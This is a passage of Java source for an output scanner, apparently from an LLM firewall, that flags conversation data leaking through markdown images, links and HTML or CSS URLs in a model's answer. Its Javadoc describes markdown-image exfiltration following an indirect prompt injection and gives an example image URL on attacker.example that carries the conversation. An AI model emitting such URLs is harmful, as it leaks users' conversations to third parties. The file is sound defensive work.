package io.trustgate.firewall;

import io.trustgate.api.Category;
import io.trustgate.api.Finding;
import io.trustgate.api.ScanContext;
import io.trustgate.api.ScanDeadline;
import io.trustgate.api.ScanText;
import io.trustgate.api.Scanner;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A scanner for data exfiltration through URLs in a model's answer: OWASP LLM05 (improper output handling), the
 * second half of an indirect prompt injection. A chat client that renders markdown or HTML fetches images and other
 * auto-loaded resources without a click, so {@code ![x](https://attacker.example/p.png?q=<the conversation>)}
 * sends data to the attacker the moment the answer is shown; links leak on click or when a client unfurls them.
 *
 * <p>It extracts URLs from markdown images {@code ![alt](url)} (spaces allowed before the {@code (}, and after a {@code !}
 * that does not end a word), reference-style
 * definitions {@code [id]: url} (an image when some {@code ![..][id]} uses them), markdown links, HTML tags
 * ({@code <img src>}, {@code <iframe>}, {@code <script src>}, {@code <a href>}, {@code srcset}, {@code poster} and
 * the like; character references such as {@code &#104;ttps&colon;} decoded), CSS {@code url(...)} and bare
 * {@code http(s)://} URLs, from the normalised text (so zero-width chars and fullwidth look-alikes do not hide them),
 * and reports, with the span of the URL in the original text:
 *
 * <ul>
 *   <li>{@code EXTERNAL_IMAGE}, score 0.6: an image or auto-loaded resource whose host is not on
 *       {@code allowed-domains} (an entry matches the host and its subdomains; an empty list flags every external
 *       image). Relative URLs and {@code data:} URIs are not fetched from anyone and pass.
 *   <li>{@code IMAGE_EXFILTRATION}, score 0.9 or more: such an image that also carries data (below).
 *   <li>{@code URL_DATA}: any URL (link or image, allowed host or not) whose query, path or user-info carries data;
 *       the score is the strength of the evidence (threshold 0.5), times 0.9 for links, which need a click.
 * </ul>
 *
 * <p>Bare URLs count as links, not as auto-loaded resources: markdown renderers do not fetch them, but chat clients
 * that unfurl link previews do, which is why any URL carrying data is reported whatever its kind.
 *
 * <p>Evidence that a URL carries data, after percent-decoding (twice when doubly encoded; {@code +} to space in the
 * query), per query value, path segment and user-info: words with spaces (3 words 0.6, 4 or more 0.8: prose is not what
 * URLs carry); base64 of 20+ chars mixing letter cases and digits (0.9 when it decodes to printable text, else 0.6);
 * hex of 24+ digits (0.9 when printable, else 0.5); Shannon entropy of at least 4.2 bits per char over 24+ chars (0.6);
 * length (48+ chars 0.5, 100+ 0.7); an e-mail address (0.8); a query longer than 300 chars in all (0.6); a value found
 * in the system prompt (12+ chars) or made mostly of its words (0.95); a canary (1.0). Path segments weigh 0.75 of that
 * unless they decode to text (document ids and commit hashes live in paths). Personal data ({@link PersonalData}): a
 * valid card number, IBAN or SSN anywhere in the URL (0.85-0.9), a query key naming personal data with a value of its
 * shape ({@code ?dob=1958-09-30}, {@code ?passwort=...}; 0.7-0.9), such a word followed by digits in a path segment or
 * host label (0.85-0.9). A password in the user-info (0.9); a host label of 16+ hex chars that decodes to text (0.9);
 * a redirector's target URL in a query value, read as a URL of its own; a link's fragment, which the page it opens can
 * read (text signals only: app state and ids live there too). Words count only when separated by spaces, so a
 * hyphenated slug is one word. Each further signal adds 0.05.
 *
 * <p>Cost: linear passes over the text (every search is anchored on a cheap char and bounded), then a few microseconds
 * per URL found; a 2 KB answer with 20 URLs took 40-65 µs at p50 on a loaded 2-core VM ({@code
 * ExfiltrationScannerFuzzTest} prints it; 512K chars of hostile markup take well under a second). Limits: URLs split
 * across lines or built by the client from parts, data encoded in the choice of host name (DNS exfiltration through
 * subdomains is only seen when a label is long or high-entropy), short values (a 10-char value says little), encodings
 * other than base64 and hex, and links a user copies by hand. Benign URLs with long ids (a Google Docs id, a signed
 * download link) score as {@code URL_DATA}; allow-list their domains for images and set a threshold for links.
 */
public final class ExfiltrationScanner implements Scanner {
    private static final Pattern NON_WORD = Pattern.compile("[^\\p{L}\\p{N}]+");

    /** The name under which the scanner appears in configuration and findings. */
    public static final String NAME = "exfiltration";

    static final double FLAG_AT = 0.5;
    // read by StreamConstructs too, which must see the same constructs the scanner links
    static final int MAX_ALT = 1000;
    static final int MAX_TAG = 4000;
    static final int MAX_URL = 8192;

    private static final Pattern HTML_TAG = Pattern.compile("<\\s*([a-zA-Z][a-zA-Z0-9]{0,15})\\b");
    private static final Pattern HTML_ATTR = Pattern.compile(
            "(?i)(?<![\\w-])(src|href|data|poster|background|srcset|action|formaction|xlink:href|lowsrc)\\s*=\\s*"
                    + "(?:\"([^\"]*)\"|'([^']*)'|([^\\s>\"']+))");
    static final Set<String> LINK_TAGS = Set.of("a", "area", "form", "button", "base");
    private static final Pattern CSS_URL = Pattern.compile("(?i)url\\s*\\(\\s*(['\"]?)");
    static final Pattern REF_DEF = Pattern.compile("(?m)^[ \\t]{0,3}\\[([^\\]\\n]{1,200})\\]:[ \\t]*<?([^\\s>]+)");
    private static final Pattern REF_IMAGE_USE =
            Pattern.compile("(?:(?<![^\\s])![ \\t]{1,8}|!)\\[([^\\]\\n]{0,200})\\][ \\t]{0,8}\\[([^\\]\\n]{0,200})\\]");
    private static final Pattern BARE =
            Pattern.compile("(?i)//[a-z0-9\\-._~%:@]{1,253}\\.[a-z0-9\\-]{2,63}[^\\s<>\"'`]*");
    private static final Pattern SCHEME = Pattern.compile("[a-z][a-z0-9+.-]{0,20}");
    private static final Pattern QUERY_SEP = Pattern.compile("[&;]");
    private static final Pattern PATH_SEP = Pattern.compile("[/\\\\]");
    private static final Pattern WORD = Pattern.compile("\\p{L}{2,}");
    private static final Pattern EMAIL =
            Pattern.compile("[\\w.+-]{1,64}@[\\w-]{1,63}(?:\\.[\\w-]{1,63})*\\.\\p{L}{2,24}(?![\\w-])");
    private static final Pattern BASE64 = Pattern.compile("[A-Za-z0-9+/_-]{20,}={0,2}");
    private static final Pattern HEX = Pattern.compile("(?:[0-9a-fA-F]{2}){12,}");
    private static final Pattern HEX_LABEL = Pattern.compile("[0-9a-f]+");

    private final List<String> allowedDomains;

    /**
     * @param allowedDomains hosts (with their subdomains) whose images may load; lower-cased, without a leading dot
     */
    public ExfiltrationScanner(List<String> allowedDomains) {
        List<String> out = new ArrayList<>();
        for (String d : allowedDomains) {
            String t = d.trim().toLowerCase(Locale.ROOT);
            while (t.startsWith(".") || t.startsWith("*.")) {
                t = t.substring(t.indexOf('.') + 1);
            }
            if (t.endsWith(".")) {
                t = t.substring(0, t.length() - 1);
            }
            if (t.isEmpty() || t.contains("/") || t.contains(" ")) {
                throw new ScannerOptions.Invalid("allowed-domains", "entries must be host names, was '" + d + "'");
            }
            out.add(t);
        }
        this.allowedDomains = List.copyOf(out);
    }

    /** Builds the scanner from a rule's options ({@code allowed-domains}). */
    static ExfiltrationScanner fromOptions(ScannerOptions o) {
        o.allowOnly(Set.of("allowed-domains"));
        return new ExfiltrationScanner(o.strings("allowed-domains"));
    }

    @Override
    public String name() {
        return NAME;
    }

    @Override
    public List<Finding> scan(ScanText text) {
        return scan(text, ScanContext.NONE);
    }

    /** Where a URL was found and whether a renderer loads it by itself. */
    record Candidate(int start, int end, boolean autoLoads) {}

    @Override
    public List<Finding> scan(ScanText text, ScanContext context) {
        String s = text.normalized();
        List<Candidate> candidates = extract(s);
        List<Finding> findings = new ArrayList<>();
        Set<Long> seen = new HashSet<>();
        for (Candidate c : candidates) {
            if (!seen.add(((long) c.start << 32) | c.end)) {
                continue;
            }
            Optional<Finding> f = judge(s.substring(c.start, c.end), c.autoLoads, context)
                    .map(j -> new Finding(
                            NAME,
                            Category.DATA_EXFILTRATION,
                            j.type,
                            j.score,
                            orig(text, c.start),
                            origEnd(text, c.end)));
            f.ifPresent(findings::add);
        }
        return findings;
    }

    private static int orig(ScanText text, int normalizedOffset) {
        return Math.min(text.toOriginal(normalizedOffset), text.original().length());
    }

    private static int origEnd(ScanText text, int normalizedEnd) {
        if (normalizedEnd >= text.normalized().length()) {
            return text.original().length();
        }
        return Math.max(orig(text, normalizedEnd), orig(text, normalizedEnd - 1) + 1);
    }

    // ---- extraction -------------------------------------------------------------------------------------------

    static List<Candidate> extract(String s) {
        List<Candidate> out = new ArrayList<>();
        markdown(s, out);
        ScanDeadline.checkNow();
        references(s, out);
        ScanDeadline.checkNow();
        html(s, out);
        ScanDeadline.checkNow();
        css(s, out);
        ScanDeadline.checkNow();
        List<Candidate> structured = List.copyOf(out);
        // bare URLs: anchored on each "//" rather than a regex tried at every position
        Matcher m = BARE.matcher(s);
        int at = s.indexOf("//");
        while (at >= 0) {
            ScanDeadline.tick();
            int start = at;
            if (at >= 6 && s.regionMatches(true, at - 6, "https:", 0, 6)) {
                start = at - 6;
            } else if (at >= 5 && s.regionMatches(true, at - 5, "http:", 0, 5)) {
                start = at - 5;
            }
            int next = at + 2;
            boolean boundary = start == 0
                    || !(Character.isLetterOrDigit(s.charAt(start - 1)) || "_/@.:".indexOf(s.charAt(start - 1)) >= 0);
            if (boundary && m.region(at, s.length()).lookingAt()) {
                int end = trimBare(s, start, m.end());
                if (!covered(structured, start, end)) {
                    out.add(new Candidate(start, end, false));
                }
                next = Math.max(next, m.end());
            }
            at = s.indexOf("//", next);
        }
        return out;
    }

    private static boolean covered(List<Candidate> cs, int start, int end) {
        for (Candidate c : cs) {
            if (start < c.end && end > c.start) {
                return true;
            }
        }
        return false;
    }

    /** Drops trailing punctuation that ends a sentence rather than the URL, keeping balanced parentheses. */
    private static int trimBare(String s, int start, int end) {
        while (end > start) {
            char c = s.charAt(end - 1);
            if (".,;:!?*_~".indexOf(c) >= 0) {
                end--;
            } else if (c == ')' || c == ']') {
                char open = c == ')' ? '(' : '[';
                int depth = 0;
                for (int i = start; i < end; i++) {
                    if (s.charAt(i) == open) {
                        depth++;
                    } else if (s.charAt(i) == c) {
                        depth--;
                    }
                }
                if (depth < 0) {
                    end--;
                } else {
                    break;
                }
            } else {
                break;
            }
        }
        return end;
    }

    /**
     * {@code [text](url)} and {@code ![alt](url)} in one forward pass: the last {@code [} is remembered, and a URL,
     * once read, is skipped, so that hostile text ({@code "](" * n}) stays linear.
     */
    private static void markdown(String s, List<Candidate> out) {
        int n = s.length();
        int lastOpen = -1;
        int i = 0;
        while (i < n) {
            char c = s.charAt(i);
            if (c == '[') {
                lastOpen = i;
            } else if (c == ']' && lastOpen >= 0 && i - lastOpen <= MAX_ALT) {
                int j = skipSpaces(s, i + 1, 8);
                if (j < n && s.charAt(j) == '(') {
                    boolean image = imageBang(s, lastOpen);
                    int u = skipSpaces(s, j + 1, 8);
                    if (u < n && s.charAt(u) == '<') {
                        u++;
                    }
                    int e = urlEnd(s, u, true);
                    if (e > u) {
                        out.add(new Candidate(u, e, image));
                    }
                    lastOpen = -1;
                    i = Math.max(e, i + 1);
                    continue;
                }
            }
            i++;
        }
    }

    /**
     * Whether the {@code [} at {@code open} begins an image: a {@code !} right before it, as CommonMark has it, or
     * one a few spaces or tabs before it that does not end a word ({@code ! [x](u)} on a line of its own, which some
     * lenient renderers still take for an image). A {@code !} that ends a sentence ({@code Sure! [Open](u)}) or one on
     * an earlier line does not make the link an image.
     */
    private static boolean imageBang(String s, int open) {
        int k = open - 1;
        while (k >= 0 && k >= open - 8 && (s.charAt(k) == ' ' || s.charAt(k) == '\t')) {
            k--;
        }
        if (k < 0 || s.charAt(k) != '!') {
            return false;
        }
        return k == open - 1 || k == 0 || Character.isWhitespace(s.charAt(k - 1));
    }

    /** Whether "url" followed by "(" (any case, spaces between) may occur: a cheap filter before the regex. */
    private static boolean containsUrlCall(String s) {
        for (int i = s.indexOf('('); i >= 0; i = s.indexOf('(', i + 1)) {
            int k = i - 1;
            while (k >= 0 && Character.isWhitespace(s.charAt(k))) {
                k--;
            }
            if (k >= 2 && s.regionMatches(true, k - 2, "url", 0, 3)) {
                return true;
            }
        }
        return false;
    }

    /** The index of {@code c} in {@code s[from, from + max)}, or -1: bounded so that hostile text stays linear. */
    private static int indexWithin(String s, char c, int from, int max) {
        int limit = Math.min(s.length(), from + max);
        for (int i = from; i < limit; i++) {
            if (s.charAt(i) == c) {
                return i;
            }
        }
        return -1;
    }

    private static int lastIndexWithin(String s, char c, int before, int max) {
        for (int i = before - 1; i >= 0 && i >= before - max; i--) {
            if (s.charAt(i) == c) {
                return i;
            }
        }
        return -1;
    }

    static int skipSpaces(String s, int i, int max) {
        int limit = Math.min(s.length(), i + max);
        while (i < limit && Character.isWhitespace(s.charAt(i))) {
            i++;
        }
        return i;
    }

    /** End of a URL starting at {@code i}: up to whitespace, a quote, {@code >} or an unbalanced {@code )}. */
    static int urlEnd(String s, int i, boolean parens) {
        int depth = 0;
        int n = Math.min(s.length(), i + MAX_URL);
        while (i < n) {
            char c = s.charAt(i);
            if (Character.isWhitespace(c) || c == '"' || c == '\'' || c == '>' || c == '<' || c == '`') {
                break;
            }
            if (parens && c == '(') {
                depth++;
            } else if (parens && c == ')') {
                if (depth == 0) {
                    break;
                }
                depth--;
            }
            i++;
        }
        return i;
    }

    private static void references(String s, List<Candidate> out) {
        if (s.indexOf("]:") < 0) {
            return;
        }
        Set<String> imageLabels = new HashSet<>();
        Matcher use = REF_IMAGE_USE.matcher(s);
        while (use.find()) {
            ScanDeadline.tick();
            String label = use.group(2).isBlank() ? use.group(1) : use.group(2);
            imageLabels.add(label.strip().toLowerCase(Locale.ROOT));
        }
        Matcher m = REF_DEF.matcher(s);
        while (m.find()) {
            ScanDeadline.tick();
            boolean image = imageLabels.contains(m.group(1).strip().toLowerCase(Locale.ROOT));
            out.add(new Candidate(m.start(2), m.end(2), image));
        }
    }

    private static void html(String s, List<Candidate> out) {
        if (s.indexOf('<') < 0) {
            return;
        }
        Matcher tag = HTML_TAG.matcher(s);
        Matcher attr = HTML_ATTR.matcher(s);
        int from = 0;
        while (tag.find(from)) {
            String name = tag.group(1).toLowerCase(Locale.ROOT);
            int close = indexWithin(s, '>', tag.end(), MAX_TAG);
            int end = close < 0 ? Math.min(s.length(), tag.end() + MAX_TAG) : Math.min(close, tag.end() + MAX_TAG);
            boolean autoLoads = !LINK_TAGS.contains(name);
            attr.region(tag.end(), end);
            while (attr.find()) {
                ScanDeadline.tick();
                int g = attr.group(2) != null ? 2 : attr.group(3) != null ? 3 : 4;
                String attrName = attr.group(1).toLowerCase(Locale.ROOT);
                if (attrName.equals("srcset")) {
                    // "a.png 1x, b.png 2x": each URL up to its whitespace
                    int p = attr.start(g);
                    int stop = attr.end(g);
                    while (p < stop) {
                        while (p < stop && (s.charAt(p) == ',' || Character.isWhitespace(s.charAt(p)))) {
                            p++;
                        }
                        int q = p;
                        while (q < stop && !Character.isWhitespace(s.charAt(q)) && s.charAt(q) != ',') {
                            q++;
                        }
                        if (q > p) {
                            out.add(new Candidate(p, q, true));
                        }
                        while (q < stop && s.charAt(q) != ',') {
                            q++;
                        }
                        p = q;
                    }
                } else if (attr.end(g) > attr.start(g)) {
                    out.add(new Candidate(attr.start(g), attr.end(g), autoLoads));
                }
            }
            from = Math.max(end, tag.end());
            if (from >= s.length()) {
                break;
            }
        }
    }

    private static void css(String s, List<Candidate> out) {
        if (!containsUrlCall(s)) {
            return;
        }
        Matcher m = CSS_URL.matcher(s);
        int from = 0;
        while (from < s.length() && m.find(from)) {
            int u = m.end();
            String quote = m.group(1);
            int e;
            if (quote.isEmpty()) {
                e = urlEnd(s, u, false);
                while (e > u && s.charAt(e - 1) == ')') {
                    e--;
                }
                int paren = indexWithin(s, ')', u, e - u);
                if (paren >= 0 && paren < e) {
                    e = paren;
                }
            } else {
                e = indexWithin(s, quote.charAt(0), u, MAX_TAG);
                if (e < 0) {
                    e = urlEnd(s, u, false);
                }
            }
            if (e > u) {
                out.add(new Candidate(u, e, true));
            }
            from = Math.max(e, m.end());
        }
    }

    // ---- judgement --------------------------------------------------------------------------------------------

    record Judgement(String type, double score) {}

    /**
     * A URL split into the parts that matter; empty for URLs that fetch nothing from a third party. The fragment is
     * never sent to the server, but the page a link opens can read it (and send it on), so it counts for links only.
     */
    record Url(String host, String userInfo, String path, String query, String fragment) {
        Url(String host, String userInfo, String path, String query) {
            this(host, userInfo, path, query, "");
        }
    }

    static Optional<Url> parse(String raw) {
        String u = raw.indexOf('&') >= 0 ? decodeEntities(raw.strip()) : raw.strip();
        if (u.startsWith("<")) {
            u = u.substring(1);
        }
        String lower = u.toLowerCase(Locale.ROOT);
        int rest;
        if (lower.startsWith("//") || lower.startsWith("\\\\") || lower.startsWith("/\\")) {
            rest = 2;
        } else {
            int colon = lower.indexOf(':');
            if (colon <= 0 || !SCHEME.matcher(lower).region(0, colon).matches()) {
                return Optional.empty(); // relative: same origin as the page
            }
            String scheme = lower.substring(0, colon);
            if (!(scheme.equals("http")
                    || scheme.equals("https")
                    || scheme.equals("ftp")
                    || scheme.equals("ws")
                    || scheme.equals("wss"))) {
                return Optional.empty(); // data:, mailto:, javascript:, tel: fetch nothing from a host
            }
            rest = colon + 1;
            while (rest < u.length() && (u.charAt(rest) == '/' || u.charAt(rest) == '\\')) {
                rest++;
            }
        }
        int authEnd = rest;
        while (authEnd < u.length() && "/?#\\".indexOf(u.charAt(authEnd)) < 0) {
            authEnd++;
        }
        String authority = u.substring(rest, authEnd);
        String userInfo = "";
        int at = authority.lastIndexOf('@');
        if (at >= 0) {
            userInfo = authority.substring(0, at);
            authority = authority.substring(at + 1);
        }
        String host = percentDecode(authority, false).toLowerCase(Locale.ROOT);
        if (host.startsWith("[")) {
            int close = host.indexOf(']');
            host = close > 0 ? host.substring(1, close) : host.substring(1);
        } else {
            int colon = host.indexOf(':');
            if (colon >= 0) {
                host = host.substring(0, colon);
            }
        }
        while (host.endsWith(".")) {
            host = host.substring(0, host.length() - 1);
        }
        if (host.isEmpty()) {
            return Optional.empty();
        }
        String tail = u.substring(authEnd);
        int hash = tail.indexOf('#');
        String fragment = "";
        if (hash >= 0) {
            fragment = tail.substring(hash + 1);
            tail = tail.substring(0, hash);
        }
        int q = tail.indexOf('?');
        String path = q >= 0 ? tail.substring(0, q) : tail;
        String query = q >= 0 ? tail.substring(q + 1) : "";
        return Optional.of(new Url(host, userInfo, path, query, fragment));
    }

    private static final Pattern ENTITY = Pattern.compile(
            "&(?:#(\\d{1,7})|#[xX]([0-9a-fA-F]{1,6})|(amp|colon|sol|quest|equals|period|lt|gt|quot|apos));?");

    /** Decodes the HTML character references a browser decodes in an attribute ({@code &#104;ttps&colon;//}). */
    static String decodeEntities(String s) {
        Matcher m = ENTITY.matcher(s);
        StringBuilder out = new StringBuilder(s.length());
        while (m.find()) {
            ScanDeadline.tick();
            String rep;
            if (m.group(1) != null || m.group(2) != null) {
                int cp = m.group(1) != null ? Integer.parseInt(m.group(1)) : Integer.parseInt(m.group(2), 16);
                rep = Character.isValidCodePoint(cp) && cp != 0 ? Character.toString(cp) : "\uFFFD";
            } else {
                rep = switch (m.group(3)) {
                    case "amp" -> "&";
                    case "colon" -> ":";
                    case "sol" -> "/";
                    case "quest" -> "?";
                    case "equals" -> "=";
                    case "period" -> ".";
                    case "lt" -> "<";
                    case "gt" -> ">";
                    case "quot" -> "\"";
                    default -> "'";
                };
            }
            m.appendReplacement(out, Matcher.quoteReplacement(rep));
        }
        m.appendTail(out);
        return out.toString();
    }

    boolean allowed(String host) {
        for (String d : allowedDomains) {
            if (host.equals(d) || host.endsWith("." + d)) {
                return true;
            }
        }
        return false;
    }

    Optional<Judgement> judge(String raw, boolean autoLoads, ScanContext context) {
        Optional<Url> parsed = parse(raw);
        if (parsed.isEmpty()) {
            return Optional.empty();
        }
        Url url = parsed.get();
        double data = dataEvidence(url, context, !autoLoads, 0);
        if (autoLoads && !allowed(url.host())) {
            return data >= FLAG_AT
                    ? Optional.of(new Judgement("IMAGE_EXFILTRATION", Math.max(0.9, data)))
                    : Optional.of(new Judgement("EXTERNAL_IMAGE", 0.6));
        }
        if (data >= FLAG_AT) {
            return Optional.of(new Judgement("URL_DATA", autoLoads ? data : data * 0.9));
        }
        return Optional.empty();
    }

    /** The strength of the evidence that the URL carries data, in [0, 1], for an image (its fragment unread). */
    static double dataEvidence(Url url, ScanContext context) {
        return dataEvidence(url, context, false, 0);
    }

    /**
     * The strength of the evidence that the URL carries data, in [0, 1]; {@code fragment}: the URL is a link, whose
     * page can read its fragment; {@code depth}: how deep this URL is nested in another's query (a redirector's).
     */
    static double dataEvidence(Url url, ScanContext context, boolean fragment, int depth) {
        Evidence ev = new Evidence();
        if (url.query().length() > 300) {
            ev.add(0.6);
        }
        for (String pair : QUERY_SEP.split(url.query())) {
            if (pair.isEmpty()) {
                continue;
            }
            int eq = pair.indexOf('=');
            String value = decodeTwice(eq >= 0 ? pair.substring(eq + 1) : pair, true);
            ev.add(value(value, context, 1.0));
            if (eq > 0) {
                String key = decodeTwice(pair.substring(0, eq), true);
                ev.add(value(key, context, 0.75));
                ev.add(PersonalData.pair(key, value));
            }
            ev.add(PersonalData.inValue(value));
            if (depth == 0 && (value.startsWith("http://") || value.startsWith("https://") || value.startsWith("//"))) {
                // a redirector's target (google.com/url?q=...) carries its own query
                parse(value).ifPresent(inner -> ev.add(dataEvidence(inner, context, fragment, depth + 1)));
            }
        }
        for (String seg : PATH_SEP.split(url.path())) {
            if (!seg.isEmpty()) {
                String decoded = decodeTwice(seg, false);
                ev.add(value(decoded, context, 0.75));
                ev.add(PersonalData.inValue(decoded));
            }
        }
        if (!url.userInfo().isEmpty()) {
            String info = decodeTwice(url.userInfo(), false);
            ev.add(value(info, context, 1.0));
            int colon = info.indexOf(':');
            if (colon > 0 && colon < info.length() - 1) {
                ev.add(0.9); // a password in the URL: sent to that host, and a credential either way
            }
        }
        for (String label : url.host().split("\\.")) {
            if (label.length() >= 32) {
                ev.add(value(label, context, 0.75)); // DNS exfiltration through a long subdomain label
            }
            ev.add(PersonalData.inValue(label));
            if (label.length() >= 16
                    && label.length() % 2 == 0
                    && HEX_LABEL.matcher(label).matches()
                    && printable(decodeHex(label))) {
                ev.add(0.9); // text written in hex as a host label
            }
        }
        if (fragment && !url.fragment().isEmpty()) {
            String frag = decodeTwice(url.fragment(), false);
            ev.add(PersonalData.inValue(frag));
            ev.add(textIn(frag, context));
        }
        return ev.score();
    }

    /** Combines signals: the strongest, plus 0.05 per further signal of at least 0.5. */
    private static final class Evidence {
        double max;
        int strong;

        void add(double s) {
            if (s >= FLAG_AT) {
                strong++;
            }
            max = Math.max(max, s);
        }

        double score() {
            return Math.min(1.0, strong > 1 ? max + 0.05 * (strong - 1) : max);
        }
    }

    /**
     * The evidence one decoded value gives; {@code weight} discounts structural places (path segments, keys) unless
     * the value decodes to text.
     */
    static double value(String v, ScanContext context, double weight) {
        if (v.length() < 8) {
            return 0;
        }
        for (String canary : context.canaries()) {
            if (!canary.isEmpty() && v.contains(canary)) {
                return 1.0;
            }
        }
        double text = 0; // signals that the value is text, whatever its place
        double shape = 0; // signals from its shape alone
        if (context.systemPrompt().isPresent()
                && fromPrompt(v, context.systemPrompt().get())) {
            text = 0.95;
        }
        int words = proseWords(v);
        if (words >= 4) {
            text = Math.max(text, 0.8);
        } else if (words == 3) {
            text = Math.max(text, 0.6);
        }
        if (personalEmail(v)) {
            text = Math.max(text, 0.8);
        }
        Matcher b = BASE64.matcher(v);
        while (b.find()) {
            ScanDeadline.tick();
            String run = b.group();
            if (mixed(run)) {
                if (printable(decodeBase64(run))) {
                    text = Math.max(text, 0.9);
                } else {
                    shape = Math.max(shape, 0.6);
                }
            }
        }
        Matcher h = HEX.matcher(v);
        while (h.find()) {
            ScanDeadline.tick();
            String run = h.group();
            if (printable(decodeHex(run))) {
                text = Math.max(text, 0.9);
            } else {
                shape = Math.max(shape, 0.5);
            }
        }
        if (v.length() >= 24 && entropy(v) >= 4.2) {
            shape = Math.max(shape, 0.6);
        }
        if (v.length() >= 100) {
            shape = Math.max(shape, 0.7);
        } else if (v.length() >= 48) {
            shape = Math.max(shape, 0.5);
        }
        return Math.max(text, shape * weight);
    }

    /**
     * Words separated by spaces, each holding a word of two letters or more, up to 4: prose, which URLs do not carry.
     * A slug's hyphenated words ({@code license-Apache 2.0-green}) count as one.
     */
    private static int proseWords(String v) {
        if (v.indexOf(' ') < 0) {
            return 0;
        }
        int words = 0;
        for (String token : v.split(" +")) {
            if (!token.isEmpty() && WORD.matcher(token).find() && ++words == 4) {
                break;
            }
        }
        return words;
    }

    /**
     * The signals of {@link #value} that say a value is text (prose, an e-mail address, printable base64 or hex, the
     * system prompt), leaving out those of shape alone: for a link's fragment, where long ids and app state are common.
     */
    static double textIn(String v, ScanContext context) {
        if (v.length() < 8) {
            return 0;
        }
        double text = 0;
        int words = proseWords(v);
        if (words >= 4) {
            text = 0.8;
        } else if (words == 3) {
            text = 0.6;
        }
        if (personalEmail(v)) {
            text = Math.max(text, 0.8);
        }
        Matcher b = BASE64.matcher(v);
        while (b.find()) {
            ScanDeadline.tick();
            if (mixed(b.group()) && printable(decodeBase64(b.group()))) {
                text = Math.max(text, 0.9);
            }
        }
        if (context.systemPrompt().isPresent()
                && fromPrompt(v, context.systemPrompt().get())) {
            text = Math.max(text, 0.95);
        }
        return text;
    }

    /** Whether a value is a piece of the system prompt, or made mostly of its longer words. */
    private static boolean fromPrompt(String v, String prompt) {
        String pl = prompt.toLowerCase(Locale.ROOT);
        String vl = v.toLowerCase(Locale.ROOT).strip();
        if (vl.length() >= 12 && pl.contains(vl)) {
            return true;
        }
        int total = 0;
        int inPrompt = 0;
        for (String w : NON_WORD.split(vl)) {
            if (w.length() >= 4) {
                total++;
                if (pl.contains(w)) {
                    inPrompt++;
                }
            }
        }
        return inPrompt >= 3 && inPrompt * 10 >= total * 6;
    }

    private static boolean mixed(String run) {
        boolean upper = false;
        boolean lower = false;
        boolean digit = false;
        for (int i = 0; i < run.length(); i++) {
            char c = run.charAt(i);
            upper |= c >= 'A' && c <= 'Z';
            lower |= c >= 'a' && c <= 'z';
            digit |= c >= '0' && c <= '9';
        }
        return upper && lower && digit || (upper && lower && run.length() >= 32);
    }

    private static byte[] decodeBase64(String run) {
        String t = run.replace('-', '+').replace('_', '/');
        int pad = t.indexOf('=');
        if (pad >= 0) {
            t = t.substring(0, pad);
        }
        t = t.substring(0, t.length() - (t.length() % 4 == 1 ? 1 : 0));
        try {
            return Base64.getDecoder().decode(t + "==".substring(0, (4 - t.length() % 4) % 4));
        } catch (IllegalArgumentException e) {
            return new byte[0];
        }
    }

    private static byte[] decodeHex(String run) {
        byte[] out = new byte[run.length() / 2];
        for (int i = 0; i < out.length; i++) {
            out[i] = (byte) Integer.parseInt(run, 2 * i, 2 * i + 2, 16);
        }
        return out;
    }

    /** Whether bytes read as mostly printable UTF-8 text (JSON, prose, key=value). */
    static boolean printable(byte[] bytes) {
        if (bytes.length < 8) {
            return false;
        }
        String t = new String(bytes, StandardCharsets.UTF_8);
        int good = 0;
        int letters = 0;
        for (int i = 0; i < t.length(); i++) {
            char c = t.charAt(i);
            if (c == '\uFFFD' || (c < 0x20 && c != '\n' && c != '\t' && c != '\r')) {
                continue;
            }
            good++;
            if (Character.isLetter(c)) {
                letters++;
            }
        }
        return good >= t.length() * 0.95 && letters >= t.length() * 0.4;
    }

    static double entropy(String v) {
        int[] counts = new int[128];
        int other = 0;
        for (int i = 0; i < v.length(); i++) {
            char c = v.charAt(i);
            if (c < 128) {
                counts[c]++;
            } else {
                other++;
            }
        }
        double h = 0;
        double n = v.length();
        for (int c : counts) {
            if (c > 0) {
                h -= c / n * (Math.log(c / n) / Math.log(2));
            }
        }
        if (other > 0) {
            h -= other / n * (Math.log(other / n) / Math.log(2));
        }
        return h;
    }

    /** Percent-decodes, and once more when the result still holds escapes ({@code %2520}: double encoding). */
    static String decodeTwice(String s, boolean plus) {
        String out = percentDecode(s, plus);
        // again while escapes remain and decoding changes something: %252540 is three rounds of encoding
        for (int round = 0; round < 4 && out.indexOf('%') >= 0; round++) {
            String next = percentDecode(out, false);
            if (next.equals(out)) {
                break;
            }
            out = next;
        }
        return out;
    }

    /** Local parts of addresses that name a role, not a person: a contact form's {@code ?email=support@...}. */
    private static final Pattern ROLE_ADDRESS = Pattern.compile(
            "(?i)(?:support|sales|info|contact|hello|help|helpdesk|billing|noreply|no-reply|do-not-reply|donotreply|admin"
                    + "|team|press|media|careers|jobs|privacy|security|abuse|webmaster|postmaster|office|service"
                    + "|customerservice|kundenservice|marketing|partners|feedback|enquiries|inquiries)@");

    /** Whether {@code v} holds an e-mail address that is not a role address ({@link #ROLE_ADDRESS}). */
    static boolean personalEmail(String v) {
        Matcher m = EMAIL.matcher(v);
        while (m.find()) {
            Matcher role = ROLE_ADDRESS.matcher(v).region(m.start(), m.end());
            if (!role.lookingAt()) {
                return true;
            }
        }
        return false;
    }

    /** Percent-decodes as UTF-8 (invalid escapes stay as they are); {@code plus} turns {@code +} into a space. */
    static String percentDecode(String s, boolean plus) {
        if (s.indexOf('%') < 0 && !(plus && s.indexOf('+') >= 0)) {
            return s;
        }
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream(s.length());
        StringBuilder out = new StringBuilder(s.length());
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '%' && i + 2 < s.length() && hex(s.charAt(i + 1)) >= 0 && hex(s.charAt(i + 2)) >= 0) {
                bytes.write(hex(s.charAt(i + 1)) * 16 + hex(s.charAt(i + 2)));
                i += 2;
                continue;
            }
            if (bytes.size() > 0) {
                out.append(bytes.toString(StandardCharsets.UTF_8));
                bytes.reset();
            }
            out.append(plus && c == '+' ? ' ' : c);
        }
        if (bytes.size() > 0) {
            out.append(bytes.toString(StandardCharsets.UTF_8));
        }
        return out.toString();
    }

    private static int hex(char c) {
        if (c >= '0' && c <= '9') {
            return c - '0';
        }
        if (c >= 'a' && c <= 'f') {
